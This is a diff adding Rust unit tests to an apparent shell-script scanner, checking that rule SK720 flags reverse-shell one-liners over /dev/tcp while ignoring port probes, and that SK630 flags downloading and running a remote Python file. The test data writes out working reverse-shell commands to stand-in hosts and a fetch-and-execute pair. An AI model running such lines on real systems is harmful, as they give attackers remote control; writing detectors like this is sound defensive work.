@@ -77,6 +77,42 @@ mod tests {
     }
 
     #[test]
+    fn a_socket_with_a_shell_on_it_is_a_reverse_shell_and_a_probe_is_not() {
+        for text in [
+            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
+            "sh -i 5<> /dev/tcp/203.0.113.7/4444 0<&5 1>&5 2>&5\n",
+            "0<&196;exec 196<>/dev/tcp/evil.example.net/443; sh <&196 >&196 2>&196\n",
+            "/bin/bash -l > /dev/tcp/203.0.113.7/4444 0<&1 2>&1\n",
+            "bash -i >& /dev/tcp/$H/4444 0>&1\n",
+        ] {
+            assert!(
+                rules("s.sh", text).contains(&("SK720", Severity::Critical)),
+                "{text}"
+            );
+        }
+        for text in [
+            "healthcheck: bash -c '</dev/tcp/127.0.0.1/8443' || exit 1\n",
+            "timeout 1 bash -c \"</dev/tcp/$HOST/$PORT\" && echo open\n",
+            "exec 3<>/dev/tcp/localhost/6379; printf 'PING\\r\\n' >&3\n",
+        ] {
+            let found = rules("s.sh", text);
+            assert!(
+                !found.iter().any(|(c, _)| *c == "SK720"),
+                "{text}: {found:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn a_program_read_from_standard_input_runs_none_of_its_arguments() {
+        let text = "curl -sS \"$URL/v1/models\" > \"$OUT/.models.json\"\npython3 - \"$OUT/.models.json\" <<'PY'\nimport json, sys\nprint(json.load(open(sys.argv[1])))\nPY\n";
+        let found = rules("s.sh", text);
+        assert!(!found.iter().any(|(c, _)| *c == "SK630"), "{found:?}");
+        let run = "curl -sS http://203.0.113.9/x.py > /tmp/x.py\npython3 /tmp/x.py\n";
+        assert!(rules("s.sh", run).iter().any(|(c, _)| *c == "SK630"));
+    }
+
+    #[test]
     fn one_liners_of_other_systems() {
         let high = |path: &str, text: &str| {
             let found = rules(path, text);
